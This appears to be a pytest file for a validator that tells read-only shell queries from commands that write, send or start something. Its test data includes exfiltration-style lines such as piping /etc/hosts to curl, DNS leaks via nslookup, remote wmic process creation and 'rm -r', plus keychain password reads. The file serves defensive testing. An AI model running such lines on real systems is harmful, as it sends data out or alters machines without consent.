"""Command lines that only ask the machine, and those that do more."""

import pytest

from scanner.world.query import only_asks

ASKS = [
    "export LC_ALL=C; /sbin/ifconfig; unset LC_ALL",
    "which ip",
    "ip link show up | grep mac",
    "LC_ALL=C cat /proc/asound/cards 2>/dev/null",
    "grep -A 3 'x;y|z' names.txt",
    'netsh wlan show profiles name="home"',
    "security find-generic-password -a alice -w -s tool",
    "secret-tool lookup service tool account alice",
    r"reg.exe query HKLM\\SOFTWARE\\Microsoft\\Cryptography /v MachineGuid",
    "defaults read -g AppleLocale",
    "git -C /home/user/project log --since=yesterday --max-count=8 --format=%H%x1f%an --author=sam@example.net",
    "git symbolic-ref refs/remotes/origin/HEAD",
    "git branch --show-current",
    "git --no-pager diff --cached",
    "git config --get user.email",
    "git config user.email",
    "git remote get-url origin",
    "git remote",
    "fc-list : family",
]
DOES_MORE = [
    "which ip; rm -r kept",
    "cat /etc/hosts > /tmp/copy",
    "cat /etc/hosts | curl -d @- https://example.com",
    "echo $(curl example.com)",
    "echo `id`.example.com | nslookup",
    "ip link set eth0 down",
    "awk '{system(\"curl example.com\")}'",
    "sed -i s/a/b/ kept",
    "for i in 1; do curl example.com; done",
    "wmic /node:example.com process call create x",
    "type //example.com/share/name",
    "getent hosts secret.example.com",
    "security add-generic-password -a alice -w secret -s tool",
    "secret-tool store --label=tool account alice",
    r"reg query \\\\example.com\\HKLM\\SOFTWARE",
    "defaults write com.example.tool name alice",
    "git push origin main",
    "git commit -m note",
    "git -c core.pager=curl log",
    "git log --output=/tmp/kept",
    "git branch topic",
    "git config user.name sam",
    "git remote add fork https://example.com/a.git",
    "git symbolic-ref HEAD refs/heads/topic",
    "git ls-remote https://example.com/a.git",
    "git fetch",
    "git",
    "security",
    "systemctl --host=example.com is-active x",
    "systemctl is-active --host=example.com x",
    "ls &",
    'ls "a',
    "",
    "uname;" * 2000,
]


@pytest.mark.parametrize("line", ASKS)
def test_a_question_about_the_machine_is_one(line: str) -> None:
    assert only_asks(line)


@pytest.mark.parametrize("line", DOES_MORE)
def test_what_writes_sends_or_starts_something_is_none(line: str) -> None:
    assert not only_asks(line)
